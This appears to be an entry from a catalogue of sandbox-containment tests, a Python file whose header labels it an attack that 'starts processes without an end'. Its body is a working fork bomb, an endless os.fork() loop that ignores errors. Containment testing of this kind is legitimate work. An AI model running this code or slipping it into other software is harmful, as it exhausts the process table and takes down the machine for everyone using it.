# /// attack
# class = "A77"
# title = "starts processes without an end"
# hope = "the table of processes is finite"
# safe = "L2"
# contained = "L2"
# why = "a plain process may do what its user may"
# ///
import os
tried()
while True:
    try:
        os.fork()
    except OSError:
        pass
